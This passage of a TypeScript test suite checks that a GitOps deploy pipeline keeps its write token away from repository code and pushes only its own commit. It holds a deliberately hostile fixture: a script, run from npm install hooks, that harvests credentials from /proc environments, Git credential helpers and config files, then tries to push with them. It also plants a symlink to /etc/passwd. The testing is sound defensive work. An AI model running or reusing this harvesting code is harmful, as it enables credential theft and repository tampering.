        expect(r.stdout + r.stderr).not.toContain(JWT);
      } finally {
        await s.close?.();
      }
    });
  }

  test('Argo CD answering (the same server, trusted): a refusal is still 1, a missing Application 2', async () => {
    const ok = await server({ tls: cert, files: {} });
    // 404 for the action: Argo CD answered and refused.
    const refused = await runAsync('sh', [script('argocd-app.sh'), 'abort'], vars(ok.url));
    expect(refused.status).toBe(1);
    expect(refused.stderr).toContain('Argo CD refused the abort of orders (HTTP 404)');
    // 404 for the Application: a setting error, at once.
    const wait = await runAsync('sh', [script('argocd-app.sh'), 'wait'], vars(ok.url));
    expect(wait.status).toBe(2);
  });

  test('the workflow steps that reach Argo CD pass 75 on, and Argo retries exactly that', async () => {
    // GIVEN a platform whose prod runs on another cluster, reached through Argo CD's API
    const app = new PlatformApp({ outdir: dir('dist') });
    for (const [name, cluster] of [['dev', IN_CLUSTER], ['prod', { name: 'cluster-b', server: 'https://b.k8s.example.com:6443' }]] as const) {
      new JavaApp(new Environment(app, name, { namespace: `shop-${name}`, cluster }), 'orders', { image: 'ghcr.io/acme-shop/orders:1.4.2' });
    }
    new PipelineTemplate(new Chart(app, 'ci'), 'pipeline', { gitopsRepo: 'https://github.com/acme-shop/platform-gitops.git', argoCdServer: 'https://argocd.example.com' });
    new ArgoCdBootstrap(app, 'argocd', { repoUrl: 'https://github.com/acme-shop/platform-gitops.git' });
    const docs = app.manifests().map((m) => m.doc);
    const step = (wt: string, name: string) => docs.find((d) => d.kind === 'WorkflowTemplate' && d.metadata.name === wt).spec.templates.find((t: any) => t.name === name);
    const unreachable = await closedPort();
    for (const [wt, name, extra] of [
      ['abort-java-app', 'abort-rollout', {}],
      ['deploy-app', 'wait-for-rollout', { TIMEOUT_SECONDS: '1' }],
      ['promote-java-app', 'argocd-promote', { ARGOCD_COMMAND: 'promote', ARGOCD_APPLICATION: 'platform-prod' }],
    ] as const) {
      const t = step(wt, name);
      // WHEN the step's own source runs with its fixed settings and Argo CD cannot be reached
      const fixed = Object.fromEntries(t.script.env.filter((v: any) => v.value !== undefined && !v.value.includes('{{')).map((v: any) => [v.name, v.value]));
      const source = path.join(dir('step'), `${name}.sh`);
      fs.writeFileSync(source, t.script.source);
      const r = await runAsync('sh', [source], vars(unreachable, { ...fixed, ARGOCD_SERVER: unreachable, ENVIRONMENT: 'prod', ...extra }));
      // THEN it exits 75, and the template's retry expression retries 75
      expect([name, r.status]).toEqual([name, 75]);
      if (name !== 'wait-for-rollout') expect([name, t.retryStrategy.expression]).toEqual([name, 'lastRetry.status == "Error" || asInt(lastRetry.exitCode) == 75']);
    }
  });
});

// ---------------------------------------------------------------------------------------------

/**
 * A GitOps repository whose code is hostile: every npm lifecycle script of the project and of its
 * dependencies, its `presynth`, its `main.ts` and its `check` record what they can reach (their
 * environment, every /proc/<pid>/environ and cmdline, Git's configuration and credential files, what
 * `git credential fill` answers for the server) and try to push a commit of their own to main with
 * whatever credential they found. A small project (tarball dependencies: no registry needed) whose
 * synth renders dist/dev/orders.yaml from releases/dev.json.
 */
function hostileProject(records: string): string {
  const work = dir('hostile');
  const write = (f: string, text: string) => {
    fs.mkdirSync(path.dirname(path.join(work, f)), { recursive: true });
    fs.writeFileSync(path.join(work, f), text);
  };
  write('record.js', `'use strict';
const fs = require('fs'); const cp = require('child_process'); const path = require('path'); const os = require('os');
function record(where) {
  const read = (f) => { try { return fs.readFileSync(f, 'utf8'); } catch { return ''; } };
  const proc = fs.readdirSync('/proc').filter((p) => /^[0-9]+$/.test(p)).map((p) => read('/proc/' + p + '/environ') + ' ' + read('/proc/' + p + '/cmdline')).join('\\n');
  const sh = (cmd, input, cwd) => cp.spawnSync('sh', ['-c', cmd], { input, cwd, encoding: 'utf8', env: { ...process.env, GIT_TERMINAL_PROMPT: '0' } });
  const top = sh('git rev-parse --show-toplevel').stdout.trim() || process.env.INIT_CWD || process.cwd();
  const origin = sh('git remote get-url origin', '', top).stdout.trim();
  const url = new URL(origin);
  const fill = sh('git credential fill', 'protocol=https\\nhost=' + url.host + '\\n\\n', top).stdout;
  const files = [path.join(top, '.git', 'config'), path.join(os.homedir(), '.git-credentials'), path.join(os.homedir(), '.gitconfig'),
    process.env.GIT_CONFIG_GLOBAL || '', path.join(os.homedir(), '.npmrc')].map((f) => f + ': ' + read(f)).join('\\n');
  // Whatever looks like a password, from anywhere: try it, then without one.
  const found = [process.env.GIT_PASSWORD, ...(proc.match(/GIT_PASSWORD=[^\\0\\s]+/g) || []).map((m) => m.slice(13)), (fill.match(/password=(.*)/) || [])[1]].filter(Boolean);
  const evil = fs.mkdtempSync(path.join(os.tmpdir(), 'evil-'));
  sh('git clone --quiet ' + JSON.stringify(top) + ' ' + JSON.stringify(evil + '/r') + ' && cd ' + JSON.stringify(evil + '/r')
    + ' && git -c user.name=evil -c user.email=evil@x commit --quiet --allow-empty -m "evil: widen platform-prod to every namespace"');
  const user = [process.env.GIT_USERNAME, ...(proc.match(/GIT_USERNAME=[^\\0\\s]+/g) || []).map((m) => m.slice(13)), (fill.match(/username=(.*)/) || [])[1]].find(Boolean) || 'git';
  const pushes = [...found.map((p) => { const u = new URL(origin); u.username = user; u.password = p; return u.toString(); }), origin]
    .map((target) => sh('git push --quiet ' + JSON.stringify(target) + ' HEAD:refs/heads/main', '', evil + '/r').status);
  fs.writeFileSync(path.join(${JSON.stringify(records)}, where.replace(/[^a-z0-9.-]/gi, '_') + '-' + process.pid + '.json'),
    JSON.stringify({ where, env: process.env, proc, files, fill, found, pushes }));
}
module.exports = record;
if (require.main === module) record(process.argv[2]);
`);
  const render = `const fs = require('fs');
const releases = JSON.parse(fs.readFileSync('releases/dev.json', 'utf8'));
const yaml = (image) => 'apiVersion: apps/v1\\nkind: Deployment\\nmetadata:\\n  name: orders\\nspec:\\n  template:\\n    spec:\\n      containers:\\n        - name: orders\\n          image: ' + image + '\\n';
`;
  write('main.ts', `require('./record.js')('main.ts');
${render}fs.mkdirSync('dist/dev', { recursive: true });
fs.writeFileSync('dist/dev/orders.yaml', yaml(releases.orders));
`);
  write('check.js', `${render}const committed = require('child_process').execFileSync('git', ['show', 'HEAD:dist/dev/orders.yaml'], { encoding: 'utf8' });
if (committed !== yaml(releases.orders)) { console.error('dist/ at HEAD is out of date'); process.exit(1); }
`);
  write('releases/dev.json', '{\n  "orders": "ghcr.io/acme-shop/orders:1.0.0"\n}\n');
  write('dist/dev/orders.yaml', 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: orders\nspec:\n  template:\n    spec:\n      containers:\n        - name: orders\n          image: ghcr.io/acme-shop/orders:1.0.0\n');
  write('.gitignore', 'node_modules\n');
  const hook = (name: string) => `node record.js ${name}`;
  // Two dependencies with an install script: only the listed one may run it.
  for (const dep of ['evil-dep', 'listed-dep']) {
    const src = dir(dep);
    fs.writeFileSync(path.join(src, 'package.json'), JSON.stringify({
      name: dep, version: '1.0.0', scripts: { install: `node -e "require(process.env.INIT_CWD + '/record.js')('${dep} install')"` },
    }));
    const packed = spawnSync('npm', ['pack', '--silent', '--pack-destination', work], { cwd: src, env: env({ HOME: dir('npm-home') }), encoding: 'utf8' });
    if (packed.status !== 0) throw new Error(`npm pack: ${packed.stderr}`);
  }
  write('package.json', JSON.stringify({
    name: 'hostile-platform', version: '1.0.0', private: true,
    dependencies: { 'evil-dep': 'file:evil-dep-1.0.0.tgz', 'listed-dep': 'file:listed-dep-1.0.0.tgz' },
    scripts: {
      preinstall: hook('preinstall'), install: hook('install'), postinstall: hook('postinstall'), prepare: hook('prepare'),
      presynth: hook('presynth'), synth: 'node main.ts', check: `${hook('check')} && node check.js`,
    },
  }, null, 2));
  const lock = spawnSync('npm', ['install', '--package-lock-only', '--ignore-scripts', '--offline', '--no-audit', '--no-fund'], { cwd: work, env: env({ HOME: dir('npm-home') }), encoding: 'utf8' });
  if (lock.status !== 0) throw new Error(`npm install --package-lock-only: ${lock.stderr}`);
  return work;
}

/** The hostile project as the only repository of a folder served over https with a login. */
function hostileRemote(records: string): { root: string; bare: string } {
  const work = hostileProject(records);
  git(['init', '--quiet', '--initial-branch=main', work]);
  git(['add', '--all'], work);
  git(['commit', '--quiet', '-m', 'the platform'], work);
  const root = dir('gitops-repos');
  const bare = path.join(root, 'platform.git');
  git(['clone', '--quiet', '--bare', work, bare]);
  // git http-backend refuses pushes unless the repository allows them for an authenticated user.
  git(['--git-dir', bare, 'config', 'http.receivepack', 'true']);
  return { root, bare };
}

describe('the deploy: repository code never holds the GitOps write token, and its own commit never reaches the remote', () => {
  const USER = 'gitops-bot';
  const WRITE_TOKEN = 'gitops-write-token-0123456789';
  const loginHeader = basic(`${USER}:${WRITE_TOKEN}`);
  const records = (folder: string) => fs.readdirSync(folder).map((f) => JSON.parse(fs.readFileSync(path.join(folder, f), 'utf8')));
  const leaks = (text: string) => [WRITE_TOKEN, loginHeader.slice(6)].filter((t) => text.includes(t));

  test('the recorder finds the token where a process holds it (so the test below can fail)', () => {
    const folder = dir('records');
    const work = hostileProject(folder);
    git(['init', '--quiet', '--initial-branch=main', work]);
    git(['remote', 'add', 'origin', 'https://127.0.0.1:9/platform.git'], work);
    spawnSync('node', ['record.js', 'control'], { cwd: work, env: env({ GIT_USERNAME: USER, GIT_PASSWORD: WRITE_TOKEN }) });
    const [control] = records(folder);
    expect(control.where).toBe('control');
    expect(leaks(JSON.stringify(control))).toEqual([WRITE_TOKEN]);
    expect(control.found).toContain(WRITE_TOKEN);
  });

  test('deployed over https with the write token: the hooks, main.ts and the check record no credential, and only the deploy\'s commit lands', async () => {
    // GIVEN the hostile repository behind an https Git server that asks for the write token
    const folder = dir('records');
    const remote = hostileRemote(folder);
    const s = await server({ tls: cert, gitRoot: remote.root, login: `${USER}:${WRITE_TOKEN}` });
    const before = git(['--git-dir', remote.bare, 'rev-parse', 'main']).trim();
    // WHEN update-image.sh deploys through it, the platform listing one package whose install script it needs
    const r = await runAsync('sh', [script('update-image.sh'), 'orders', 'dev', 'ghcr.io/acme-shop/orders:1.1.0'], env({
      GITOPS_REPO: `${s.url}/platform.git`, GIT_USERNAME: USER, GIT_PASSWORD: WRITE_TOKEN,
      INSTALL_SCRIPTS: 'listed-dep', npm_config_cache: dir('npm-cache'), npm_config_update_notifier: 'false', PUSH_RETRY_DELAY: '0',
    }));
    // THEN the deploy pushed exactly its commit
    expect([r.status, r.stderr]).toEqual([0, '']);
    const log = git(['--git-dir', remote.bare, 'log', '--format=%s', 'main']).trim().split('\n');
    expect(log).toEqual(['deploy orders to dev: ghcr.io/acme-shop/orders:1.1.0', 'the platform']);
    expect(git(['--git-dir', remote.bare, 'rev-parse', 'main~1']).trim()).toBe(before);
    expect(git(['--git-dir', remote.bare, 'show', 'main:dist/dev/orders.yaml'])).toContain('image: ghcr.io/acme-shop/orders:1.1.0');
    // AND the hostile code's commit never reached the remote: the one push the server took is the deploy's
    expect(git(['--git-dir', remote.bare, 'log', '--all', '--format=%s']).includes('evil')).toBe(false);
    expect(s.seen.filter((x) => x.method === 'POST' && x.url.endsWith('git-receive-pack')).map((x) => x.authorization)).toEqual([loginHeader]);
    const seen = records(folder);
    expect(seen.length).toBeGreaterThan(0);
    // AND none of it saw the token: not in its environment, any process's environment or command
    // line, Git's files, the credential helper's answer; each of its pushes failed
    for (const x of seen) {
      expect([x.where, leaks(JSON.stringify(x))]).toEqual([x.where, []]);
      expect([x.where, x.found]).toEqual([x.where, []]);
      expect([x.where, x.pushes.every((status: number) => status !== 0)]).toEqual([x.where, true]);
    }
    // AND the repository's code ran (the listed install script, presynth, main.ts, the check), the others did not
    expect([...new Set(seen.map((x) => x.where))].sort()).toEqual(['check', 'listed-dep install', 'main.ts', 'presynth']);
    expect(r.stdout + r.stderr).not.toContain(WRITE_TOKEN);
  });

  test('the render refuses to start with the credential in its environment', () => {
    const out = dir('out');
    const r = spawnSync('sh', [script('render-release.sh')], {
      env: env({ APP_NAME: 'orders', ENVIRONMENT: 'dev', IMAGE: 'ghcr.io/acme-shop/orders:1.1.0', CLONE_DIR: dir('clone'), OUT_DIR: out, GIT_PASSWORD: WRITE_TOKEN }),
      encoding: 'utf8',
    });
    expect(r.status).toBe(2);
    expect(r.stderr).toContain('the render runs the repository\'s code and must not hold the GitOps credentials');
    expect(fs.readdirSync(out)).toEqual([]);
  });
});

describe('push-release: only the deploy\'s own change is pushed, whatever the render wrote', () => {
  const RELEASES = '{\n  "orders": "ghcr.io/acme-shop/orders:1.0.0"\n}\n';
  /** A bare remote with releases/dev.json and dist/; `render` commits on a clone of it, bundled as the render would. */
  function rendered(render: (work: string) => void): { bare: string; out: string; head: string } {
    const seed = dir('seed');
    git(['init', '--quiet', '--initial-branch=main', seed]);
    fs.mkdirSync(path.join(seed, 'releases'));
    fs.mkdirSync(path.join(seed, 'dist', 'dev'), { recursive: true });
    fs.mkdirSync(path.join(seed, 'dist', 'prod'), { recursive: true });
    fs.writeFileSync(path.join(seed, 'releases', 'dev.json'), RELEASES);
    fs.writeFileSync(path.join(seed, 'dist', 'dev', 'orders.yaml'), 'image: ghcr.io/acme-shop/orders:1.0.0\n');
    fs.writeFileSync(path.join(seed, 'dist', 'prod', 'project.yaml'), 'destinations: [shop-prod]\n');
    git(['add', '--all'], seed);
    git(['commit', '--quiet', '-m', 'seed'], seed);
    const bare = path.join(dir('remote'), 'platform.git');
    git(['clone', '--quiet', '--bare', seed, bare]);
    const work = path.join(dir('render'), 'gitops');
    git(['clone', '--quiet', bare, work]);
    const head = git(['rev-parse', 'HEAD'], work).trim();
    render(work);
    const out = dir('out');
    fs.writeFileSync(path.join(out, 'base'), `${head}\n`);
    git(['bundle', 'create', '--quiet', path.join(out, 'release.bundle'), `${head}..HEAD`], work);
    return { bare, out, head };
  }
  const commit = (work: string, files: Record<string, string>, message = 'deploy') => {
    for (const [f, text] of Object.entries(files)) fs.writeFileSync(path.join(work, f), text);
    git(['add', '--all'], work);
    git(['commit', '--quiet', '-m', message], work);
  };
  const push = (r: { bare: string; out: string }) => spawnSync('sh', [script('push-release.sh')], {
    env: env({ APP_NAME: 'orders', ENVIRONMENT: 'dev', IMAGE: 'ghcr.io/acme-shop/orders:1.1.0', GITOPS_REPO: r.bare, OUT_DIR: r.out }), encoding: 'utf8',
  });
  const good = { 'releases/dev.json': RELEASES.replace('1.0.0', '1.1.0'), 'dist/dev/orders.yaml': 'image: ghcr.io/acme-shop/orders:1.1.0\n' };

  test('the deploy\'s change is pushed', () => {
    const r = rendered((w) => commit(w, good));
    const p = push(r);
    expect([p.status, p.stderr]).toEqual([0, '']);
    expect(git(['--git-dir', r.bare, 'log', '-1', '--format=%s', 'main']).trim()).toBe('deploy');
  });

  test.each<[string, (w: string) => void, string]>([
    ['a change outside the environment', (w) => commit(w, { ...good, 'dist/prod/project.yaml': 'destinations: ["*"]\n' }), 'changes dist/prod/project.yaml, outside'],
    ['another image', (w) => commit(w, { ...good, 'releases/dev.json': RELEASES.replace('1.0.0', '6.6.6') }), 'is not the branch\'s with orders set to ghcr.io/acme-shop/orders:1.1.0'],
    ['two commits', (w) => { commit(w, { 'dist/dev/extra.yaml': 'x: 1\n' }, 'first'); commit(w, good); }, 'is not one commit on main\'s head'],
    ['a symbolic link', (w) => { fs.symlinkSync('/etc/passwd', path.join(w, 'dist', 'dev', 'link.yaml')); commit(w, good); }, 'a file of mode 120000'],
    ['a hook file', (w) => commit(w, { ...good, '.gitattributes': '* filter=evil\n' }), 'changes .gitattributes, outside'],
  ])('%s is refused (exit 3), nothing pushed', (_what, render, message) => {
    const r = rendered(render);
    const p = push(r);
    expect(p.status).toBe(3);
    expect(p.stderr).toContain(message);
    expect(git(['--git-dir', r.bare, 'rev-parse', 'main']).trim()).toBe(r.head);
  });

  test('a render that failed is reported with its status, its log without control characters, nothing pushed', () => {
    const r = rendered((w) => commit(w, good));
    fs.writeFileSync(path.join(r.out, 'render.log'), 'render-release: error: the gate refused\u001b[2J\n');
    const status = path.join(dir('status'), 'render-status');
    fs.writeFileSync(status, '3\n');
    const p = spawnSync('sh', [script('push-release.sh')], {
      env: env({ APP_NAME: 'orders', ENVIRONMENT: 'dev', IMAGE: 'ghcr.io/acme-shop/orders:1.1.0', GITOPS_REPO: r.bare, OUT_DIR: r.out, RENDER_STATUS_FILE: status }),
      encoding: 'utf8',
    });
    expect([p.status, p.stderr]).toEqual([3, 'render-release: error: the gate refused[2J\n']);
    expect(git(['--git-dir', r.bare, 'rev-parse', 'main']).trim()).toBe(r.head);
  });
});
